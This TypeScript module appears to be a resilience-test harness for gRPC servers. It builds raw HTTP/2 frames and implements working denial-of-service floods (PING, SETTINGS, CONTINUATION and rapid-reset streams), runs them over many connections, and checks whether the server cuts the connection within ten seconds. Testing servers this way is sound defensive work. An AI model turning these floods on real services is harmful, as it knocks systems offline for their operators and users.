import type { AskedCall } from './grpc-answered.ts';
import { type Attacker, attackerOf, type GrpcTarget, onConnections, untilClosed } from './grpc-connections.ts';
import { callHeaders, endHeaders, frame, frameType, grpcMessage, headerBlock, settings } from './http2-frames.ts';

const times = (count: number, bytes: Buffer): Buffer => Buffer.concat(Array.from({ length: count }, () => bytes));

/** Sends the same until the node ends the connection, or has taken so much of it. */
async function pour(attacker: Attacker, bytes: Buffer, count: number): Promise<void> {
  for (let sent = 0; sent < count; sent += 1) if (!(await attacker.send(bytes))) return;
}

const pings = times(1_000, frame(frameType.ping, 0, 0, Buffer.alloc(8)));
const changes = times(1_000, settings({ 4: 65_535 }));
const fields = headerBlock(Object.fromEntries(Array.from({ length: 80 }, (_, at) => [`name-${at}`, 'b'.repeat(150)])));

const health = '/svc.v1.HealthService/GetHealth';
export const asked: readonly AskedCall[] = [{ path: health, body: grpcMessage(Buffer.alloc(0)), minBytes: 5 }];

/** Floods of frames that cost the node more than their sender. */
export const floods = {
  PING: (attacker: Attacker) => pour(attacker, pings, 1_000),
  SETTINGS: (attacker: Attacker) => pour(attacker, changes, 1_000),
  CONTINUATION: async (attacker: Attacker) => {
    await attacker.send(frame(frameType.headers, 0, attacker.nextStream(), fields));
    await pour(attacker, frame(frameType.continuation, 0, 1, fields), 2_000);
  },
  'calls that are reset': async (attacker: Attacker) => {
    const headers = callHeaders(health);
    for (let turn = 0; turn < 100; turn += 1) {
      const calls = Array.from({ length: 100 }, () => {
        const id = attacker.nextStream();
        const reset = frame(frameType.rstStream, 0, id, Buffer.from([0, 0, 0, 8]));
        return Buffer.concat([frame(frameType.headers, endHeaders, id, headers), reset]);
      });
      if (!(await attacker.send(Buffer.concat(calls)))) return;
    }
  },
} satisfies Readonly<Record<string, (attacker: Attacker) => Promise<void>>>;

/** A flood on a connection of its own. Returns whether the node ended the connection, which it has 10 s for. */
export async function nodeEnds(target: GrpcTarget, flood: (attacker: Attacker) => Promise<void>): Promise<boolean> {
  const timeout = AbortSignal.timeout(10_000);
  const attacker = await attackerOf(target, timeout);
  await flood(attacker);
  await untilClosed(attacker);
  return !timeout.aborted;
}

/** All of them in turn, on connections of their own. */
export function run(target: GrpcTarget, signal: AbortSignal, connections: number): Promise<number> {
  let begun = 0;
  const kinds = Object.values(floods);
  return onConnections(target, signal, connections, async (attacker) => {
    begun += 1;
    await kinds[begun % kinds.length]?.(attacker);
  });
}
